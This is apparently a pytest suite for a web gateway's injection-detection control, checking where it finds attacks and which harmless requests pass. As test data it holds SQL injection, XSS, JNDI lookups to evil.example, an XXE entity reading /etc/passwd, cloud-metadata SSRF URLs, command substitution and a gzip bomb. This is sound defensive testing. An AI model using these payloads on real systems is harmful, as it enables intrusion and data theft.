"""The control as the policy sees it: where it looks, what it says, what is excluded, stripped, refused unread."""

from __future__ import annotations

import json
from typing import Any

import cramjam
import pytest

from injection_harness import CLIMB, COMMAND, SQL, XSS, as_json, post, query, request, said, verdict
from sallygate.controls.injection.pipeline.judging import JUDGED_BASE

PLACES: dict[str, tuple[Any, str]] = {
    "query value": (query(SQL), "query:q"),
    "query name": (request("/", "1%27%20or%20%271%27=%271"), "query:1' or '1'"),
    "query without a name": (request("/", "%3Cscript%3Ealert(1)%3C/script%3E"), f"query:{XSS}"),
    "path segment": (request("/items/%3Cscript%3Ealert(1)%3C%2Fscript%3E/view"), "path:1"),
    "header": (request("/", "", (b"x-filter", SQL.encode())), "header:x-filter"),
    "referer": (request("/", "", (b"referer", b"https://a.example/?q=<script>alert(1)</script>")), "header:referer"),
    "a header of the connection": (request("/", "", (b"accept", b"${jndi:ldap://evil.example/a}")), "header:accept"),
    "cookie": (request("/", "", (b"cookie", b"a=1; b=" + SQL.replace(" ", "%20").encode())), "cookie:b"),
    "JSON leaf": (as_json({"a": [{"b": XSS}]}), "body:/a/0/b"),
    "JSON key": (as_json({SQL: 1}), f"body:/{SQL}"),
    "JSON string alone": (as_json(XSS), "body:"),
    "form field": (post("a=1&b=%3Cscript%3Ealert(1)%3C/script%3E", "application/x-www-form-urlencoded"), "body:/b"),
    "form with broken percent signs": (post(b"a=100%&b=<script>alert(1)</script>", "application/x-www-form-urlencoded"), "body:"),
    "JSON that says to be a form": (post(b'{"a": "50%", "b": "<script>alert(1)</script>"}', "application/x-www-form-urlencoded"), "body:/b"),
    "multipart field": (post(f'--x\r\nContent-Disposition: form-data; name="c"\r\n\r\n{XSS}\r\n--x--\r\n', "multipart/form-data; boundary=x"), "body:/c"),
    "file name": (post('--x\r\nContent-Disposition: form-data; name="f"; filename="a.php"\r\nContent-Type: image/png\r\n\r\n.\r\n--x--\r\n', "multipart/form-data; boundary=x"), "body:/f"),
    "XML text": (post("<a><b>1' or '1'='1</b></a>", "application/xml"), "body:"),
    "XML attribute": (post("<a b=\"1' or '1'='1\"/>", "text/xml"), "body:"),
    "XML entity": (post('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', "application/xml"), "body:"),
    "JSON under another name": (post(json.dumps({"a": SQL}), "text/plain"), "body:/a"),
    "JSON under a picture's name": (post(json.dumps({"a": SQL}), "image/png"), "body:/a"),
    "JSON within a string": (query(json.dumps({"filter": {"by": SQL}})), "query:q/filter/by"),
    "base64": (query("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="), "query:q"),
    "percent-encoded thrice": (request("/", "q=%25253Cscript%25253Ealert(1)%25253C/script%25253E"), "query:q"),
    "a value spread over two of a name": (request("/", "id=1%20union/*&id=*/select%20a%20from%20users"), "query:id"),
    "GraphQL": (as_json({"query": "query { __schema { types { name } } }"}), "body:/query"),
    "MongoDB operator": (as_json({"user": {"$ne": None}}), "body:/user/$ne"),
}  # fmt: skip


@pytest.mark.parametrize("name", PLACES)
def test_it_looks_everywhere(name: str) -> None:
    recorded, where = PLACES[name]
    found = said(recorded)
    assert found and any(one.partition(" ")[2] == where for one in found), found


@pytest.mark.parametrize(
    ("body", "media", "code"),
    [
        ("p=%zz", "application/x-www-form-urlencoded", "body.form"),
        ("p=%c1%af", "application/x-www-form-urlencoded", "body.form"),
        ("p=%00", "application/x-www-form-urlencoded", "body.form"),
        ("a=1&p=5%", "application/x-www-form-urlencoded; charset=utf-8", "body.form"),
        ("{x=1&p=%zz", "application/x-www-form-urlencoded", "body.form"),
        ('{"a":1,"a":2}', "application/json", "body.json"),
        ('{"a":{"b":1,"b":2}}', "application/vnd.api+json", "body.json"),
        (b'{"a":"\xc1\xaf"}', "application/json", "body.json"),
    ],
)
def test_what_two_readers_read_differently_is_refused(body: str | bytes, media: str, code: str) -> None:
    decision = verdict(post(body, media)).decision
    assert (decision.status, [one.code for one in decision.findings]) == (400, [code])


@pytest.mark.parametrize(
    ("body", "media"),
    [
        ('{"discount":"50%"}', "application/x-www-form-urlencoded"),
        ("<a>50%</a>", "application/x-www-form-urlencoded"),
        ("{'a': 'b'}", "application/json"),
        ('{"a":1}\n{"b":2}\n', "application/json"),
        ("a=1&&b=2&c", "application/x-www-form-urlencoded"),
        ("a=%E9%81%93&b=+", "application/x-www-form-urlencoded"),
    ],
)
def test_what_clients_write_in_their_own_way_passes(body: str, media: str) -> None:
    assert said(post(body, media)) == []


def test_places_are_as_many_as_there_are() -> None:
    assert len(PLACES) == 27


HONEST = [
    query("O'Brien & Sons <obrien@example.org>"), query("select your options from the menu"), query("50% off; 2 for 1 (today)"),
    as_json({"html": "<p>Hello <b>world</b>, see <a href='https://example.org'>here</a></p>"}),
    as_json({"url": "https://example.org/a?b=c&d=%2Fe", "when": "2026-11-24T10:00:00Z", "id": "550e8400-e29b-41d4-a716-446655440000"}),
    request("/api/v1/users/42/orders", "limit=10&sort=-created_at&fields=id,name"), post("a=1&b=2", "application/x-www-form-urlencoded"),
    post("<?xml version='1.0'?><order><id>7</id><note>Tom &amp; Jerry</note></order>", "application/xml"),
    post(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8, "image/png"), post("", "application/json"),
    as_json({"query": "query Item($id: ID!) { item(id: $id) { id name price { amount currency } } }", "variables": {"id": "7"}}),
]  # fmt: skip


@pytest.mark.parametrize("number", range(len(HONEST)))
def test_honest_requests_pass(number: int) -> None:
    assert said(HONEST[number]) == []


def test_a_finding_says_all_of_it() -> None:
    steps: list[Any] = []
    decided = verdict(request("/", "id=%2527%2520union%2520select%2520a,b%2520from%2520users--%2520"), trace=steps)
    (finding, *_) = decided.decision.findings
    assert (finding.code, finding.status, finding.where, finding.owasp, finding.attack) == (
        "injection.sql",
        403,
        "query:id",
        "API8",
        "T1190",
    )
    assert (
        finding.rule
        and "after percent" in finding.evidence
        and "union select" in finding.evidence
        and "score" in finding.evidence
    )
    assert "union" not in finding.detail and ("injection", "examine") in {(step.control, step.phase) for step in steps}


def test_secrets_stay_out_of_the_evidence() -> None:
    for recorded in (as_json({"password": "' or 1=1--"}), request("/", "", (b"cookie", b"sid=1' or '1'='1"))):
        evidence = verdict(recorded).decision.findings[0].evidence
        assert "not shown" in evidence and "or" not in evidence.partition(": not")[2]
    long = verdict(query("' or 'QWxhZGRpbjpvcGVuIHNlc2FtZQQWxhZGRpbg'='a")).decision.findings[0].evidence
    assert "QWxh…" in long and "bjpvcGVu" not in long


@pytest.mark.parametrize(("sensitivity", "value", "refused"), [
    ("relaxed", "c:\\inetpub\\wwwroot", False), ("balanced", "c:\\inetpub\\wwwroot", True), ("relaxed", SQL, True),
    ("balanced", "../img/logo.png", False), ("strict", "../img/logo.png", True),
])  # fmt: skip
def test_sensitivity(sensitivity: str, value: str, refused: bool) -> None:
    assert bool(said(query(value), f"sensitivity: {sensitivity}")) is refused


def test_shadow_records_and_passes() -> None:
    decided = verdict(query(SQL), "mode: shadow")
    assert decided.decision.verdict == "allow"
    assert [(one.code, one.mode) for one in decided.decision.findings][:1] == [("injection.sql", "shadow")]
    assert verdict(query(SQL), "mode: off").decision.findings == ()


@pytest.mark.parametrize(("exclusion", "recorded", "passes"), [
    ("family: sql, field: query:q", query(SQL), True),
    ("family: xss, field: query:q", query(SQL), False),
    ("family: sql, field: query:other", query(SQL), False),
    ("field: query:q", query(SQL), True),
    ("family: sql", query(SQL), True),
    ("family: xss, field: 'body:/items/*/html'", as_json({"items": [{"html": XSS}, {"html": XSS}]}), True),
    ("family: xss, field: 'body:/items/*/html'", as_json({"items": [{"text": XSS}]}), False),
    ("family: sql, path: /reports/*", query(SQL), False),
    ("family: sql, path: /", query(SQL), True),
])  # fmt: skip
def test_exclusions_are_as_narrow_as_written(exclusion: str, recorded: Any, passes: bool) -> None:
    assert (said(recorded, f"exclude: [{{{exclusion}}}]") == []) is passes


def test_an_exclusion_leaves_other_families_of_the_field() -> None:
    both = "<script>fetch('//x')</script>' union select a,b from users-- "
    assert [one.partition(" ")[0] for one in said(query(both), "exclude: [{family: xss, field: query:q}]")] == ["sql"]


class TestStripping:
    SECTION = "act: strip, strip: ['query:q', 'body:/comment']"

    def test_takes_the_offending_characters_out(self) -> None:
        for recorded in (
            query("Tom <img src=x onerror=alert> Jerry"),
            as_json({"comment": "it's <b onclick=run()>bold</b>", "id": 7}),
        ):
            decided = verdict(recorded, self.SECTION).decision
            assert decided.verdict == "allow" and decided.findings[0].code == "injection.xss"
            assert decided.findings[0].detail == "The offending characters were taken out."

    def test_judges_what_is_left_again(self) -> None:
        assert said(query(SQL), self.SECTION) == ["sql query:q"]

    def test_other_fields_refuse(self) -> None:
        assert said(as_json({"title": XSS, "comment": "x"}), self.SECTION) == ["xss body:/title"]
        assert said(as_json({"title": XSS, "comment": "<b onclick=x()>"}), self.SECTION)[0].startswith("xss")

    def test_needs_fields_and_fields_need_it(self) -> None:
        from sallygate.policy.errors import PolicyError

        for section in ("act: strip", "strip: ['query:q']", "act: strip, strip: ['header:x']", "exclude: [{path: /a}]",
                        "exclude: [{family: nonsense}]", "exclude: [{field: q}]", "inspect: 1KB", "inspect: 1GB"):  # fmt: skip
            with pytest.raises(PolicyError):
                verdict(query("a"), section)


class TestBodies:
    def test_larger_than_what_is_inspected(self) -> None:
        large = as_json({"a": "x" * 4_300_000})
        assert said(large) == ["size body:"] and verdict(large).status == 413
        assert said(large, "uninspected: pass") == []
        assert said(large, "inspect: 5MiB") == []
        assert said(as_json({"a": "x" * 4_300_000, "b": SQL}), "inspect: 5MiB") == ["sql body:/b"]

    def test_charsets_that_read_as_something_else(self) -> None:
        for charset in ("utf-16", "utf-16le", "utf-7", "ibm037", "utf-32", "iso-2022-kr", "nonsense"):
            refused = post("a=1", f"application/x-www-form-urlencoded; charset={charset}")
            assert said(refused) == ["charset header:content-type"] and verdict(refused).status == 415, charset
        for charset in ("utf8", "UTF-8", "iso-8859-1", "windows-1252", "'utf-8'"):
            assert said(post("a=1", f"application/x-www-form-urlencoded; charset={charset}")) == [], charset

    def test_codings(self) -> None:
        import gzip

        packed = gzip.compress(json.dumps({"a": SQL}).encode())
        assert said(post(packed, "application/json", (b"content-encoding", b"gzip"))) == ["sql body:/a"]
        assert verdict(post(b"x", "application/json", (b"content-encoding", b"compress"))).status == 415
        packed = bytes(cramjam.zstd.compress(json.dumps({"a": SQL}).encode()))
        assert said(post(packed, "application/json", (b"content-encoding", b"zstd"))) == ["sql body:/a"]
        bomb = gzip.compress(b"a" * 10_000_000)
        assert verdict(post(bomb, "text/plain", (b"content-encoding", b"gzip"))).status == 413

    def test_a_multipart_body_that_two_parsers_would_read_differently(self) -> None:
        broken = post(
            '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--x', "multipart/form-data; boundary=x"
        )
        assert verdict(broken).decision.findings[0].code == "body.multipart"

    def test_files_are_not_read_but_text_files_are(self) -> None:
        part = '--x\r\nContent-Disposition: form-data; name="f"; filename="a.{}"\r\nContent-Type: {}\r\n\r\n{}\r\n--x--\r\n'
        media = "multipart/form-data; boundary=x"
        assert said(post(part.format("png", "image/png", SQL), media)) == []
        assert said(post(part.format("json", "application/json", json.dumps({"a": SQL})), media)) == ["sql body:/f/a"]


def test_more_than_is_looked_at_is_refused() -> None:
    busy = "' or x <a b=c> ../ $(id) " * ((2 * JUDGED_BASE) // 25)
    found = said(as_json({"a": busy[:240_000]}))
    assert found, "an attack, or too much to look at"
    endless = SQL
    for _ in range(9):
        endless = "".join(f"%{byte:02x}" for byte in endless.encode()) if _ == 0 else endless.replace("%", "%25")
    assert said(request("/", f"q={endless}")) != []


def test_the_strongest_come_first_and_not_too_many() -> None:
    found = verdict(
        as_json({f"f{n}": value for n, value in enumerate([CLIMB, SQL, XSS, COMMAND] * 5)})
    ).decision.findings
    scores = [int(one.evidence.split()[1].rstrip(",")) for one in found]
    assert 1 <= len(found) <= 5 and scores == sorted(scores, reverse=True)


@pytest.mark.parametrize("name", [b"referer", b"origin"])
@pytest.mark.parametrize("host", [b"localhost:3000", b"127.0.0.1", b"192.168.1.10:8080", b"[::1]:5173"])
def test_a_page_of_ones_own_machine_or_network_may_ask(name: bytes, host: bytes) -> None:
    assert said(request("/", "", (name, b"http://" + host))) == []
    assert said(request("/", "", (name, b"https://" + host + b"/app?tab=1#a"))) == []


@pytest.mark.parametrize(
    ("field", "family"),
    [
        (b"http://localhost/?q=<script>alert(1)</script>", "xss"),
        (b"http://localhost/?q=%3Cscript%3Ealert(1)%3C/script%3E", "xss"),
        (b"http://localhost:3000/' or '1'='1", "sql"),
        (b"http://127.0.0.1@169.254.169.254/latest/meta-data/", "ssrf"),
        (b"http://169.254.169.254/latest/meta-data/", "ssrf"),
        (b"gopher://127.0.0.1:6379/_x", "ssrf"),
    ],
)
def test_what_stands_beside_its_address_is_judged(field: bytes, family: str) -> None:
    assert any(one.startswith(f"{family} ") for one in said(request("/", "", (b"referer", field))))


def test_only_the_headers_that_name_a_page_may_name_such_an_address() -> None:
    assert said(request("/", "", (b"x-callback", b"http://localhost:3000/"))) == ["ssrf header:x-callback"]
    assert said(query("http://localhost:3000/")) == ["ssrf query:q"]


def _field(text: str, more: str = "", disposition: str = "") -> Any:
    head = f'--x\r\nContent-Disposition: form-data; name="c"{disposition}\r\n{more}\r\n'
    return post(f"{head}{text}\r\n--x--\r\n", "multipart/form-data; boundary=x")


def test_a_field_of_a_multipart_body_is_judged_like_one_of_a_form() -> None:
    text = '<?xml version="1.0"?><a><b>c</b></a>'
    assert said(post(f"c={text}", "application/x-www-form-urlencoded")) == ["xss body:/c"]
    assert said(_field(text)) == ["xss body:/c"]


def test_a_part_said_to_be_xml_and_a_file_are_documents() -> None:
    text = '<?xml version="1.0"?><a><b>c</b></a>'
    assert said(_field(text, "Content-Type: application/xml\r\n")) == []
    assert said(_field(text, "Content-Type: text/xml\r\n", '; filename="a.xml"')) == []
    assert said(_field(text.replace("c</b>", "1' or '1'='1</b>"), "Content-Type: application/xml\r\n")) == [
        "sql body:/c"
    ]


@pytest.mark.parametrize(("count", "texts"), [
    (400, ["<b>New</b> &amp; <i>nice</i>", "Size &gt; 5 &quot;cm&quot;", "<p>It's</p>"]),
    (400, ["Select your size - it's free", "Drop table lamp, 12\"; white", "Union Jack's cup & saucer"]),
    (3000, ["Seán O'Brien", "Müller & Co. KG", "https://example.com/a?x=1&y=2%20b"]),
])  # fmt: skip
def test_long_lists_of_honest_texts_pass(count: int, texts: list[str]) -> None:
    assert said(as_json([{"id": n, "text": f"{texts[n % len(texts)]} {n}"} for n in range(count)])) == []


@pytest.mark.parametrize(
    "text", ["Это стоит 5 долларов, а не 'шесть'. ", "これは「5」ではない、'6'です。", "It's not over yet, or is it? "]
)
def test_long_texts_of_any_script_pass_however_they_are_escaped(text: str) -> None:
    long = (text * 4000)[:30_000]
    for body in (json.dumps({"text": long}), json.dumps({"text": long}, ensure_ascii=False)):
        assert said(post(body)) == []
